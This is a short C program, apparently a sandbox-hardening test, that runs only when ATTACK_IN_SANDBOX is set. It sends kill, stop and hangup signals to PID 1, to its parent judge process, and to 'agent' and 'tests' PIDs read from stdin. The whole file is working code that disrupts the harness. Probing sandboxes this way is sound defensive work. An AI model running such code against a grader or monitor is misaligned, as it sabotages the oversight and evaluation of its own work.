// kill, stop and hang up process 1, its parent and the judge
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define GUARD if (!getenv("ATTACK_IN_SANDBOX")) return 1

int main(void) {
    GUARD;
    char word[4096], value[4096];
    int targets[4] = {1, getppid(), 0, 0}, count = 2;
    while (scanf("%4000s %4000s", word, value) == 2)
        if ((!strcmp(word, "agent") || !strcmp(word, "tests")) && count < 4) targets[count++] = atoi(value);
    const int signals[] = {SIGKILL, SIGSTOP, SIGTERM, SIGHUP, SIGSEGV, SIGCHLD, SIGTSTP};
    for (int i = 0; i < count; i++)
        for (unsigned s = 0; s < sizeof signals / sizeof *signals; s++)
            if (targets[i] > 0) {
                kill(targets[i], signals[s]);
                syscall(SYS_tgkill, targets[i], targets[i], signals[s]);
                int fd = (int)syscall(SYS_pidfd_open, targets[i], 0);
                if (fd >= 0) syscall(SYS_pidfd_send_signal, fd, signals[s], NULL, 0), close(fd);
                sigqueue(targets[i], signals[s], (union sigval){0});
            }
    usleep(20000);
    puts("DONE");
}
